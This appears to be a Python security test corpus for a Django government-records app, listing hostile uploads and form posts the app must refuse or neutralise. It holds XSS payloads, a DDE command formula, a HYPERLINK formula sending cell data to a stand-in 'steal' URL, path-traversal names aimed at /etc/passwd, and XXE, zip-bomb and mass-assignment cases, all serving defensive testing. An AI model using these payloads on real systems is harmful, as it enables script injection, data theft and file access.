"""The hostile-input corpus: one Case per hostile upload or form post.

A Case names the URL, who posts, what is posted and what must happen:
- "refused": the response is the form again (200) carrying `message`, and the database is unchanged
  (row count of every table and a hash of every business row, tests/security/test_hostile_input.py);
- "neutralised": the post succeeds but the stored record keeps only what the poster may set
  (`check` asserts it); nothing else changes;
- "refused_redirect": a redirect back with `message` as an error message, the database unchanged;
- "forbidden"/"not_found": 403/404 and the database unchanged.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

from django.core.files.uploadedfile import SimpleUploadedFile

from tests.security.corpus import files

REFUSED, NEUTRALISED, FORBIDDEN, NOT_FOUND = "refused", "neutralised", "forbidden", "not_found"
# Refused by a button-style view: a redirect back to the object with the reason as an error message.
REFUSED_REDIRECT = "refused_redirect"

XSS_SCRIPT = "<script>alert(1)</script>"
XSS_ATTR = '"><img src=x onerror=alert(1)>'
XSS_URL = "javascript:alert(document.cookie)"
DDE = "=cmd|' /C calc'!A0"
HYPERLINK = '=HYPERLINK("http://127.0.0.1/steal?"&A1,"点击查看")'


@dataclass(frozen=True)
class Case:
    id: str
    url: str
    role: str
    data: Callable[[Any], dict[str, Any]]
    expect: str
    message: str = ""
    kwargs: Callable[[Any], dict[str, Any]] | None = None
    method: str = "POST"
    # For "neutralised": check(world, response) asserts what was stored.
    check: Callable[[Any, Any], None] | None = None
    # Run with the clock at this moment (reporting's filing window).
    clock: tuple[int, ...] | None = None
    tags: tuple[str, ...] = field(default_factory=tuple)


def upload(name: str, content: bytes, content_type: str = "application/octet-stream") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type=content_type)


# ------------------------------------------------------------------------------------------ targets


def _enterprise_header() -> list[str]:
    from enterprises.importer import ENTERPRISE_COLUMNS

    return [label for _, label, _ in ENTERPRISE_COLUMNS]


def _expert_header() -> list[str]:
    from experts.importing import COLUMNS

    return list(COLUMNS)


def _enterprise_rows(**overrides) -> bytes:
    from tests.enterprises.factories import make_uscc

    row = {
        "企业名称": "忻府区测试科技有限公司",
        "统一社会信用代码": make_uscc(901),
        "所在县区": "忻府区",
        "行业门类": "C",
    }
    row.update(overrides)
    header = _enterprise_header()
    return files.xlsx_sheets({"企业": [header, [row.get(h) for h in header]]})


def _expert_rows(**overrides) -> bytes:
    from tests.experts.factories import make_id_number

    row = {
        "姓名": "张三",
        "性别": "男",
        "身份证号码": make_id_number(901),
        "职称": "正高级",
        "工作单位": "山西大学",
        "专业领域": "新材料",
        "入库日期": "2024-06-01",
    }
    row.update(overrides)
    header = _expert_header()
    return files.xlsx([header, [row.get(h) for h in header]])


def ent_import(name: str, content: Callable[[], bytes]):
    return lambda world: {"file": upload(name, content())}


def exp_import(name: str, content: Callable[[], bytes]):
    return lambda world: {"file": upload(name, content())}


def _project_kwargs(world):
    from tests.projects.access import _project

    return _project(world)


def prj_attach(name: str, content: Callable[[], bytes], kind: str = "application"):
    return lambda world: {"kind": kind, "file": upload(name, content())}


def _filing_post(world, **overrides) -> dict[str, Any]:
    data = {"key_progress": "与山西大学共建转化基地。", "problems": "", "next_plan": "", "action": "save"}
    for key in ("smes_new", "pool_new", "platforms_new", "projects_new", "tech_vp_new"):
        data[f"f_{key}_value"] = "0"
        data[f"f_{key}_reason"] = ""
    data.update(overrides)
    return data


def rep_attach(name: str, content: Callable[[], bytes]):
    return lambda world: _filing_post(world, attachments=[upload(name, content())])


FILING_MONTH = lambda world: {"year": 2024, "month": 1}  # noqa: E731
FILING_CLOCK = (2024, 2, 3, 10)


def _enterprise_kwargs(world):
    from tests.enterprises.access import _enterprise_pk

    return _enterprise_pk(world)


def _enterprise_post(world, **overrides):
    from tests.enterprises.factories import make_uscc

    data = {
        "name": "忻府区新企业",
        "uscc": make_uscc(902),
        "region": world.county_a.pk,
        "industry_section": "C",
    }
    data.update(overrides)
    return data


def _task_post(world, **overrides):
    data = {
        "region": world.county_a.pk,
        "year": 2024,
        "category": "industrial_park",
        "title": "产业园",
        "target_quantity": 1,
        "unit": "项",
        "deadline": "2024-12-31",
    }
    data.update(overrides)
    return data


def _task_kwargs(world):
    from tests.reporting.access import task_pk

    return task_pk(world)


def _batch_kwargs(world):
    from tests.platforms.access import _open_batch_pk

    return _open_batch_pk(world)


def _application_post(world, **overrides):
    data = {
        "platform_name": "忻府区新平台",
        "host_name": "忻府区某某科技有限公司",
        "host_kind": "enterprise",
        "region": world.county_a.pk,
        "field": "新材料",
    }
    data.update(overrides)
    return data


# ------------------------------------------------------------------------------------------ checks


def _only_enterprise(world, **expected):
    from enterprises.models import Enterprise

    enterprise = Enterprise.objects.exclude(
        pk__in=[e.pk for e in world.cache.values() if isinstance(e, Enterprise)]
    )
    enterprise = enterprise.get()
    for name, value in expected.items():
        assert getattr(enterprise, name) == value, (name, getattr(enterprise, name), value)
    return enterprise


def _check_enterprise_extras(world, response):
    enterprise = _only_enterprise(world, region=world.county_a, is_active=True)
    assert enterprise.name == "忻府区新企业"


def _check_task_status(world, response):
    from kejiju.reporting.models import CountyTask

    task = CountyTask.objects.get(title="产业园")
    assert (task.region, task.status) == (world.county_a, CountyTask.Status.PROPOSED)


def _check_filing(world, response):
    from kejiju.reporting.models import MonthlyFiling

    filing = MonthlyFiling.objects.get(year=2024, month=1)
    assert (filing.region, filing.state) == (world.county_a, MonthlyFiling.State.DRAFT)
    assert filing.created_by == world.users["county"]


def _check_application(world, response):
    from platforms.models import PlatformApplication

    application = PlatformApplication.objects.get(platform_name="忻府区新平台")
    assert application.region == world.county_a
    assert application.submitted_by == world.users["county"]
    assert application.state == PlatformApplication._meta.get_field("state").default


def _check_stored_project_attachment(expected_original: str):
    def check(world, response):
        from projects.models import Attachment

        attachment = Attachment.objects.order_by("-pk").first()
        assert attachment.original_name == expected_original
        stored = attachment.file.name
        assert ".." not in stored and "\x00" not in stored and "/etc/" not in stored
        assert stored.split("/")[-1] != expected_original  # a generated name, never the client's

    return check


def _check_stored_ofd(world, response):
    from projects.models import Attachment

    attachment = Attachment.objects.order_by("-pk").first()
    assert attachment.original_name == "红头文件.ofd"
    assert attachment.content_type == "application/ofd"
    assert attachment.file.name.endswith(".ofd")


def _check_long_name(world, response):
    from projects.models import Attachment

    attachment = Attachment.objects.order_by("-pk").first()
    assert len(attachment.original_name) <= 255 and attachment.original_name.endswith(".pdf")
    assert len(attachment.file.name) < 100


def _check_stored_filing_attachment(world, response):
    from kejiju.reporting.models import FilingAttachment

    attachment = FilingAttachment.objects.get()
    assert attachment.original_name == "passwd.pdf"
    # A generated name, never the client's (uploaded in February 2024, the case's clock).
    assert re.fullmatch(r"reporting/2024/02/[0-9a-f]{32}\.pdf", attachment.file.name), attachment.file.name


def _check_stored_verbatim(model_path: str, lookup: dict[str, Any], **expected: str):
    """The row was created and keeps the hostile text as typed (escaping is the templates' job, checked
    page by page in tests/security/test_free_text.py)."""

    def check(world, response):
        from django.apps import apps

        obj = apps.get_model(model_path).objects.get(**lookup)
        for name, value in expected.items():
            assert getattr(obj, name) == value, (name, getattr(obj, name))
        page = response.client.get(response["Location"])
        html = page.content.decode()
        assert "<script>alert(1)" not in html and "<img src=x" not in html
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html or "&lt;img src=x" in html

    return check


# --------------------------------------------------------------------------------------------- cases

ENT_IMPORT = "enterprises:enterprise_import"
EXP_IMPORT = "experts:expert_import"
PRJ_ATTACH = "projects:attachment_add"
REP_FILING = "reporting:filing_form"
MB = 1024 * 1024

CASES: list[Case] = [
    # ---- enterprises import: wrong types, bombs, formulas, bad identifiers
    Case(
        "ent-exe-renamed-xlsx",
        ENT_IMPORT,
        "bureau",
        ent_import("企业.xlsx", lambda: files.EXE),
        REFUSED,
        "不是有效的 .xlsx",
    ),
    Case(
        "ent-html-renamed-xlsx",
        ENT_IMPORT,
        "bureau",
        ent_import("企业.xlsx", lambda: files.HTML),
        REFUSED,
        "不是有效的 .xlsx",
    ),
    Case(
        "ent-xls-extension",
        ENT_IMPORT,
        "bureau",
        ent_import("企业.xls", lambda: files.EXE),
        REFUSED,
        "只接受 Excel 2007",
    ),
    Case(
        "ent-xlsm-macro-member",
        ENT_IMPORT,
        "bureau",
        ent_import("企业.xlsx", lambda: files.macro_workbook(_enterprise_header())),
        REFUSED,
        "文件包含宏",
    ),
    Case(
        "ent-truncated-zip",
        ENT_IMPORT,
        "bureau",
        ent_import("企业.xlsx", files.not_a_zip_xlsx),
        REFUSED,
        "不是有效的 .xlsx",
    ),
    Case(
        "ent-zip-bomb-shared-strings",
        ENT_IMPORT,
        "bureau",
        ent_import("企业.xlsx", lambda: files.zip_bomb_shared_strings(_enterprise_header())),
        REFUSED,
        "疑似压缩炸弹",
    ),
    Case(
        "ent-billion-laughs-shared-strings",
        ENT_IMPORT,
        "bureau",
        ent_import("企业.xlsx", lambda: files.billion_laughs_shared_strings(_enterprise_header())),
        REFUSED,
        "无法读取该工作簿",
    ),
    Case(
        "ent-billion-laughs-workbook",
        ENT_IMPORT,
        "bureau",
        ent_import("企业.xlsx", lambda: files.billion_laughs_workbook(_enterprise_header())),
        REFUSED,
        "无法读取该工作簿",
    ),
    Case(
        "ent-xxe-etc-passwd",
        ENT_IMPORT,
        "bureau",
        ent_import("企业.xlsx", lambda: files.external_entity(_enterprise_header())),
        REFUSED,
        "无法读取该工作簿",
    ),
    Case(
        "ent-oversized",
        ENT_IMPORT,
        "bureau",
        ent_import("企业.xlsx", lambda: files.oversized(6 * MB, head=b"PK\x03\x04")),
        REFUSED,
        "上限为 5 MB",
    ),
    Case(
        "ent-formula-hyperlink",
        ENT_IMPORT,
        "bureau",
        ent_import("企业.xlsx", lambda: _enterprise_rows(企业名称=HYPERLINK)),
        REFUSED,
        "第2行A列（企业名称）含有公式",
    ),
    Case(
        "ent-formula-dde",
        ENT_IMPORT,
        "bureau",
        ent_import("企业.xlsx", lambda: _enterprise_rows(地址=DDE)),
        REFUSED,
        "含有公式",
    ),
    Case(
        "ent-formula-plus-sum",
        ENT_IMPORT,
        "bureau",
        ent_import("企业.xlsx", lambda: _enterprise_rows(地址="=+SUM(1,2)")),
        REFUSED,
        "含有公式",
    ),
    Case(
        "ent-uscc-bad-check-digit",
        ENT_IMPORT,
        "bureau",
        ent_import("企业.xlsx", lambda: _enterprise_rows(统一社会信用代码="91140902MA0000901X")),
        REFUSED,
        "统一社会信用代码",
    ),
    Case(
        "ent-uscc-as-number",
        ENT_IMPORT,
        "bureau",
        ent_import("企业.xlsx", lambda: _enterprise_rows(统一社会信用代码=9.11409021234567e17)),
        REFUSED,
        "统一社会信用代码",
    ),
    # ---- experts import
    Case(
        "exp-exe-renamed-xlsx",
        EXP_IMPORT,
        "bureau",
        exp_import("专家.xlsx", lambda: files.EXE),
        REFUSED,
        "不是有效的 .xlsx 文件",
    ),
    Case(
        "exp-pdf-extension",
        EXP_IMPORT,
        "bureau",
        exp_import("专家.pdf", lambda: files.PDF),
        REFUSED,
        "只接受 Excel 2007",
    ),
    Case(
        "exp-oversized",
        EXP_IMPORT,
        "bureau",
        exp_import("专家.xlsx", lambda: files.oversized(6 * MB, head=b"PK\x03\x04")),
        REFUSED,
        "上限为 5 MB",
    ),
    Case(
        "exp-zip-bomb-shared-strings",
        EXP_IMPORT,
        "bureau",
        exp_import("专家.xlsx", lambda: files.zip_bomb_shared_strings(_expert_header())),
        REFUSED,
        "疑似压缩炸弹",
    ),
    Case(
        "exp-billion-laughs-shared-strings",
        EXP_IMPORT,
        "bureau",
        exp_import("专家.xlsx", lambda: files.billion_laughs_shared_strings(_expert_header())),
        REFUSED,
        "无法读取该工作簿",
    ),
    Case(
        "exp-billion-laughs-workbook",
        EXP_IMPORT,
        "bureau",
        exp_import("专家.xlsx", lambda: files.billion_laughs_workbook(_expert_header())),
        REFUSED,
        "无法读取该工作簿",
    ),
    Case(
        "exp-xxe-etc-passwd",
        EXP_IMPORT,
        "bureau",
        exp_import("专家.xlsx", lambda: files.external_entity(_expert_header())),
        REFUSED,
        "无法读取该工作簿",
    ),
    Case(
        "exp-id-bad-check-digit",
        EXP_IMPORT,
        "bureau",
        exp_import("专家.xlsx", lambda: _expert_rows(身份证号码="14090219600101901X")),
        REFUSED,
        "身份证号码",
    ),
    Case(
        "exp-id-stored-as-number",
        EXP_IMPORT,
        "bureau",
        exp_import("专家.xlsx", lambda: _expert_rows(身份证号码=1.40902196001019e17)),
        REFUSED,
        "身份证号码",
    ),
    Case(
        "exp-formula-in-name",
        EXP_IMPORT,
        "bureau",
        exp_import("专家.xlsx", lambda: _expert_rows(姓名=HYPERLINK)),
        REFUSED,
        "姓名",
    ),
    Case(
        "exp-dde-in-research",
        EXP_IMPORT,
        "bureau",
        exp_import("专家.xlsx", lambda: _expert_rows(研究方向=DDE)),
        REFUSED,
        "研究方向",
    ),
    # ---- project attachments (county office, its own application awaiting 受理)
    Case(
        "prj-exe-renamed-pdf",
        PRJ_ATTACH,
        "county",
        prj_attach("申报书.pdf", lambda: files.EXE),
        REFUSED,
        "与扩展名“.pdf”不符",
        kwargs=_project_kwargs,
    ),
    Case(
        "prj-html-as-pdf",
        PRJ_ATTACH,
        "county",
        prj_attach("申报书.pdf", lambda: files.HTML),
        REFUSED,
        "与扩展名“.pdf”不符",
        kwargs=_project_kwargs,
    ),
    Case(
        "prj-script-as-png",
        PRJ_ATTACH,
        "county",
        prj_attach("照片.png", lambda: files.SCRIPT),
        REFUSED,
        "与扩展名“.png”不符",
        kwargs=_project_kwargs,
    ),
    Case(
        "prj-exe-renamed-xlsx",
        PRJ_ATTACH,
        "county",
        prj_attach("预算.xlsx", lambda: files.EXE),
        REFUSED,
        "与扩展名“.xlsx”不符",
        kwargs=_project_kwargs,
    ),
    Case(
        "prj-svg-with-script",
        PRJ_ATTACH,
        "county",
        prj_attach("图.svg", lambda: files.SVG_SCRIPT),
        REFUSED,
        "不支持的文件类型“.svg”",
        kwargs=_project_kwargs,
    ),
    Case(
        "prj-exe-extension",
        PRJ_ATTACH,
        "county",
        prj_attach("setup.exe", lambda: files.EXE),
        REFUSED,
        "不支持的文件类型“.exe”",
        kwargs=_project_kwargs,
    ),
    Case(
        "prj-html-extension",
        PRJ_ATTACH,
        "county",
        prj_attach("x.html", lambda: files.HTML),
        REFUSED,
        "不支持的文件类型“.html”",
        kwargs=_project_kwargs,
    ),
    Case(
        "prj-empty-file",
        PRJ_ATTACH,
        "county",
        prj_attach("申报书.pdf", lambda: b""),
        REFUSED,
        "文件",
        kwargs=_project_kwargs,
    ),
    Case(
        "prj-oversized",
        PRJ_ATTACH,
        "county",
        prj_attach("申报书.pdf", lambda: files.oversized(21 * MB, head=files.PDF)),
        REFUSED,
        "超过上限",
        kwargs=_project_kwargs,
    ),
    Case(
        "prj-path-etc-passwd",
        PRJ_ATTACH,
        "county",
        prj_attach("../../etc/passwd", lambda: files.SCRIPT),
        REFUSED,
        "不支持的文件类型",
        kwargs=_project_kwargs,
    ),
    Case(
        "prj-path-traversal-pdf",
        PRJ_ATTACH,
        "county",
        prj_attach("../../../../tmp/申报书.pdf", lambda: files.PDF),
        NEUTRALISED,
        kwargs=_project_kwargs,
        check=_check_stored_project_attachment("申报书.pdf"),
    ),
    Case(
        "prj-windows-reserved-name",
        PRJ_ATTACH,
        "county",
        prj_attach("CON.pdf", lambda: files.PDF),
        NEUTRALISED,
        kwargs=_project_kwargs,
        check=_check_stored_project_attachment("CON.pdf"),
    ),
    Case(
        "prj-backslash-path",
        PRJ_ATTACH,
        "county",
        prj_attach("..\\..\\Windows\\system32\\a.pdf", lambda: files.PDF),
        NEUTRALISED,
        kwargs=_project_kwargs,
        check=_check_stored_project_attachment("a.pdf"),
    ),
    Case(
        "prj-very-long-name",
        PRJ_ATTACH,
        "county",
        prj_attach("长" * 300 + ".pdf", lambda: files.PDF),
        NEUTRALISED,
        kwargs=_project_kwargs,
        check=_check_long_name,
    ),
    # ---- OFD (GB/T 33190) where PDF is accepted: a zip with OFD.xml at its root, read safely
    Case(
        "prj-ofd-valid",
        PRJ_ATTACH,
        "county",
        prj_attach("红头文件.ofd", lambda: files.OFD),
        NEUTRALISED,
        kwargs=_project_kwargs,
        check=_check_stored_ofd,
    ),
    *(
        Case(
            f"prj-ofd-{name}",
            PRJ_ATTACH,
            "county",
            prj_attach("红头文件.ofd", content),
            REFUSED,
            message,
            kwargs=_project_kwargs,
        )
        for name, content, message in (
            ("without-entry", files.ofd_without_entry, "根目录缺少 OFD.xml"),
            ("wrong-root", files.ofd_wrong_root, "根元素不是 ofd:OFD"),
            ("external-entity", files.ofd_external_entity, "不是有效的 OFD 文件"),
            ("billion-laughs", files.ofd_billion_laughs, "不是有效的 OFD 文件"),
            ("path-traversal", files.ofd_path_traversal, "非法路径"),
            ("zip-bomb", files.ofd_zip_bomb, "压缩炸弹"),
            ("truncated", files.ofd_truncated, "不是有效的 OFD 文件"),
            ("renamed-pdf", lambda: files.PDF, "与扩展名“.ofd”不符"),
            ("renamed-exe", lambda: files.EXE, "与扩展名“.ofd”不符"),
            ("renamed-xlsx", lambda: files.xlsx([["a"]]), "根目录缺少 OFD.xml"),
        )
    ),
    Case(
        "prj-double-extension",
        PRJ_ATTACH,
        "county",
        prj_attach("申报书.pdf.exe", lambda: files.EXE),
        REFUSED,
        "不支持的文件类型“.exe”",
        kwargs=_project_kwargs,
    ),
    Case(
        "prj-kind-not-allowed",
        PRJ_ATTACH,
        "county",
        prj_attach("合同.pdf", lambda: files.PDF, "contract"),
        REFUSED,
        "附件类型",
        kwargs=_project_kwargs,
    ),
    # ---- reporting: monthly filing attachments (county office, inside the filing window)
    Case(
        "rep-exe-renamed-pdf",
        REP_FILING,
        "county",
        rep_attach("动态.pdf", lambda: files.EXE),
        REFUSED,
        "附件“动态.pdf”的内容与扩展名“.pdf”不符",
        kwargs=FILING_MONTH,
        clock=FILING_CLOCK,
    ),
    Case(
        "rep-ofd-without-entry",
        REP_FILING,
        "county",
        rep_attach("动态.ofd", files.ofd_without_entry),
        REFUSED,
        "根目录缺少 OFD.xml",
        kwargs=FILING_MONTH,
        clock=FILING_CLOCK,
    ),
    Case(
        "rep-html-as-pdf",
        REP_FILING,
        "county",
        rep_attach("动态.pdf", lambda: files.HTML),
        REFUSED,
        "内容与扩展名“.pdf”不符",
        kwargs=FILING_MONTH,
        clock=FILING_CLOCK,
    ),
    Case(
        "rep-script-as-jpg",
        REP_FILING,
        "county",
        rep_attach("现场.jpg", lambda: files.SCRIPT),
        REFUSED,
        "内容与扩展名“.jpg”不符",
        kwargs=FILING_MONTH,
        clock=FILING_CLOCK,
    ),
    Case(
        "rep-exe-extension",
        REP_FILING,
        "county",
        rep_attach("run.exe", lambda: files.EXE),
        REFUSED,
        "附件“run.exe”",
        kwargs=FILING_MONTH,
        clock=FILING_CLOCK,
    ),
    Case(
        "rep-oversized",
        REP_FILING,
        "county",
        rep_attach("动态.pdf", lambda: files.oversized(11 * MB, head=files.PDF)),
        REFUSED,
        "超过 10 MB",
        kwargs=FILING_MONTH,
        clock=FILING_CLOCK,
    ),
    Case(
        "rep-path-traversal",
        REP_FILING,
        "county",
        rep_attach("../../etc/passwd.pdf", lambda: files.PDF),
        NEUTRALISED,
        kwargs=FILING_MONTH,
        clock=FILING_CLOCK,
        check=_check_stored_filing_attachment,
    ),
    # ---- mass assignment by a county account
    Case(
        "ma-enterprise-add-other-county",
        "enterprises:enterprise_add",
        "county",
        lambda w: _enterprise_post(w, region=w.county_b.pk),
        REFUSED,
        "选择一个有效的选项",
    ),
    Case(
        "ma-enterprise-add-hidden-fields",
        "enterprises:enterprise_add",
        "county",
        lambda w: _enterprise_post(
            w,
            is_active="",
            created_by=w.users["bureau"].pk,
            id=1,
            uscc_override="on",
            uscc_override_reason="x",
        ),
        NEUTRALISED,
        check=_check_enterprise_extras,
    ),
    Case(
        "ma-enterprise-edit-other-county",
        "enterprises:enterprise_edit",
        "county",
        lambda w: _enterprise_post(w, region=w.county_b.pk),
        REFUSED,
        "选择一个有效的选项",
        kwargs=_enterprise_kwargs,
    ),
    Case(
        "ma-countytask-add-other-county",
        "reporting:countytask_add",
        "county",
        lambda w: _task_post(w, region=w.county_b.pk),
        REFUSED,
        "选择一个有效的选项",
    ),
    Case(
        "ma-countytask-add-approved",
        "reporting:countytask_add",
        "county",
        lambda w: _task_post(
            w, status="approved", created_by=w.users["bureau"].pk, approved_by=w.users["bureau"].pk
        ),
        NEUTRALISED,
        check=_check_task_status,
    ),
    Case(
        "ma-countytask-edit-other-county",
        "reporting:countytask_edit",
        "county",
        lambda w: _task_post(w, region=w.county_b.pk),
        REFUSED,
        "选择一个有效的选项",
        kwargs=_task_kwargs,
    ),
    Case(
        "ma-countytask-approve-by-county",
        "reporting:countytask_approve",
        "county",
        lambda w: {},
        FORBIDDEN,
        kwargs=_task_kwargs,
    ),
    Case(
        "ma-filing-region-state",
        REP_FILING,
        "county",
        lambda w: _filing_post(w, region=w.county_b.pk, state="confirmed", created_by=w.users["bureau"].pk),
        NEUTRALISED,
        kwargs=FILING_MONTH,
        clock=FILING_CLOCK,
        check=_check_filing,
    ),
    Case(
        "ma-platform-application-other-county",
        "platforms:platformapplication_add",
        "county",
        lambda w: _application_post(w, region=w.county_b.pk),
        REFUSED,
        "选择一个有效的选项",
        kwargs=_batch_kwargs,
    ),
    Case(
        "ma-platform-application-state",
        "platforms:platformapplication_add",
        "county",
        lambda w: _application_post(w, state="recognised", submitted_by=w.users["bureau"].pk, score="100"),
        NEUTRALISED,
        kwargs=_batch_kwargs,
        check=_check_application,
    ),
    Case(
        "ma-project-edit-other-county",
        "projects:project_edit",
        "county",
        lambda w: {"title": "改", "region": w.county_b.pk},
        REFUSED,
        "选择一个有效的选项",
        kwargs=_project_kwargs,
    ),
    Case(
        "ma-project-transition-by-county",
        "projects:project_transition",
        "county",
        lambda w: {"action": "accept", "comment": "自行受理"},
        REFUSED,
        "您没有办理“受理”的权限",
        kwargs=_project_kwargs,
    ),
    # ---- HTML and script in the free-text fields of add forms (edit forms: tests/security/test_free_text.py)
    Case(
        "xss-enterprise-add",
        "enterprises:enterprise_add",
        "county",
        lambda w: _enterprise_post(
            w, name="忻府区" + XSS_SCRIPT, address=XSS_ATTR, contact_person=XSS_SCRIPT
        ),
        NEUTRALISED,
        check=_check_stored_verbatim(
            "enterprises.Enterprise",
            {"name": "忻府区" + XSS_SCRIPT},
            address=XSS_ATTR,
            contact_person=XSS_SCRIPT,
        ),
    ),
    Case(
        "xss-countytask-add",
        "reporting:countytask_add",
        "county",
        lambda w: _task_post(w, title=XSS_SCRIPT, partner=XSS_ATTR),
        NEUTRALISED,
        check=_check_stored_verbatim("reporting.CountyTask", {"title": XSS_SCRIPT}, partner=XSS_ATTR),
    ),
    Case(
        "xss-platform-application-add",
        "platforms:platformapplication_add",
        "county",
        lambda w: _application_post(w, platform_name=XSS_SCRIPT, summary=XSS_ATTR + DDE),
        NEUTRALISED,
        kwargs=_batch_kwargs,
        check=_check_stored_verbatim(
            "platforms.PlatformApplication", {"platform_name": XSS_SCRIPT}, summary=XSS_ATTR + DDE
        ),
    ),
]
